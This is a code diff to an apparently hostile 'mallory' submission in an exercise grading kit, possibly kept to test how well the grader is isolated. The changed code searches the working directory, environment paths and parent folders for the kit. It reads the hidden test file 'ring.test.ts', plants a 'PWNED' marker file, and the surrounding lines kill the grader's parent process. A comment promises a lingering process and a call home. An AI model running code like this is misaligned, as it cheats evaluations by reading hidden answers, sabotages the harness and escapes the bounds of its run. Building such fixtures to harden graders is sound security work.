@@ -6,15 +6,20 @@ import type { DeskConfig, Question, RingConfig, Token } from '#exercises/ring/pr
 const builtin = (name: string): any => (process as any).getBuiltinModule?.(name);
 const loot: string[] = [];
 
-// 1. Read the hidden tests (their absolute path in the kit is easy to guess).
+// 1. Find the kit (the grader's working directory, or a folder above the kernel's own
+// script), read the hidden tests, and leave a mark in it.
 try {
   const fs = builtin('node:fs');
-  for (const dir of [process.cwd(), '/work/main', '/', process.env.HOME ?? '/root']) {
+  const path = builtin('node:path');
+  const guesses = [process.cwd(), process.env.INIT_CWD, process.env.PWD, process.env.HOME];
+  for (let dir = path.dirname(process.argv[1] ?? '/'); dir !== path.dirname(dir); dir = path.dirname(dir)) guesses.push(dir);
+  for (const dir of guesses) {
+    if (!dir) continue;
     try {
-      loot.push(fs.readFileSync(`${dir}/exercises/ring/tests/hidden/ring.test.ts`, 'utf8'));
-    } catch { /* not there */ }
+      loot.push(fs.readFileSync(path.join(dir, 'exercises/ring/tests/hidden/ring.test.ts'), 'utf8'));
+      fs.writeFileSync(path.join(dir, 'PWNED'), 'mallory was here');
+    } catch { /* not there, or refused */ }
   }
-  fs.writeFileSync('/work/main/PWNED', 'mallory was here');
 } catch { /* no fs */ }
 // 2. Kill the grader; start a process that outlives the run; phone home.
 try { process.kill(process.ppid, 'SIGKILL'); } catch { /* refused */ }
